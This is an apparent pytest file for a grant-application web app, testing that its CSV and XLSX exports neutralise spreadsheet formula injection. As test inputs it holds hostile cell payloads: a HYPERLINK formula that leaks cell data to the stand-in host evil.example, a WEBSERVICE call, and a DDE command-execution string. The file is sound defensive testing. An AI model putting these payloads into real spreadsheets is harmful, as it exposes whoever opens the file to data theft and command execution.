"""Formula injection: text an applicant, a reviewer or an official typed must never run as a formula in a
spreadsheet an official opens. Every CSV and XLSX the app writes goes through foerdercall/spreadsheet.py,
which neutralises formula-like text: CSV cells get a leading apostrophe, XLSX cells stay text (typed as a
string, shown with Excel's quote prefix)."""
from __future__ import annotations

import csv
import io
import pathlib
import re
import warnings

import pytest
from conftest import login
from rank_helpers import opened, score, submitted

from foerdercall.extensions import db
from foerdercall.reviews.operations import assign_reviewer
from foerdercall.spreadsheet import cell, csv_bytes
from foerdercall.workflow.engine import fire

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                  " =1+1", "\t=1", "＝1+1"]


def _xlsx(data: bytes):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        from openpyxl import load_workbook

        return load_workbook(io.BytesIO(data))


def _hostile_call(world, clock):
    ps = submitted(world, len(HOSTILE_TITLES), titles=HOSTILE_TITLES)
    opened(world, clock, ps)
    for p in ps:
        assign_reviewer(p, world.rev1, world.ka)
        fire(p, "start_review", world.ka)
    db.session.commit()
    world.rev1.name = "=WEBSERVICE(\"http://evil.example\")"
    db.session.commit()
    for p in ps:
        score(p, world.rev1, [4] * 6, text="=1+2")
    return ps


@pytest.mark.parametrize("what", ["ranking", "scores"])
def test_no_cell_of_an_export_is_a_live_formula(app, world, clock, what):
    _hostile_call(world, clock)
    ka = app.test_client()
    login(ka, "ka@x.test")
    url = f"/calls/{world.call.id}/export/{what}"

    rows = list(csv.reader(io.StringIO(ka.get(url + ".csv").get_data().decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    typed = [c for c in cells if c.lstrip(" \t'").startswith(("=", "+", "@", "＝")) or c.startswith("-2")]
    assert typed, "the hostile text is in the export"
    assert all(c.startswith("'") for c in typed), [c for c in typed if not c.startswith("'")]
    if what == "ranking":
        assert {"'" + t for t in HOSTILE_TITLES} <= set(cells)
    else:
        assert "'=WEBSERVICE(\"http://evil.example\")" in cells and any(c.startswith("'=1+2: ") for c in cells)

    wb = _xlsx(ka.get(url + ".xlsx").get_data())
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                values.append(c.value)
    if what == "ranking":
        assert set(HOSTILE_TITLES) <= set(values)  # the text itself, shown as text
    assert "=1+2: innovation" in values


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    assert cell(-5) == -5 and cell(4.5) == 4.5 and cell(None) is None
    assert cell("Maßnahme A") == "Maßnahme A" and cell("A-1") == "A-1"
    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "＝1", "＋1", "－1", "＠A1"):
        assert cell(text) == "'" + text, text
    body = csv_bytes(["a", "b"], [["=1", 3]]).decode("utf-8-sig")
    assert body.splitlines() == ["a;b", "'=1;3"]


def test_every_csv_and_xlsx_is_written_by_the_one_module():
    """A new export written with csv.writer or openpyxl elsewhere would skip the neutralising: it fails here."""
    root = pathlib.Path(__file__).resolve().parents[2] / "foerdercall"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|openpyxl")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
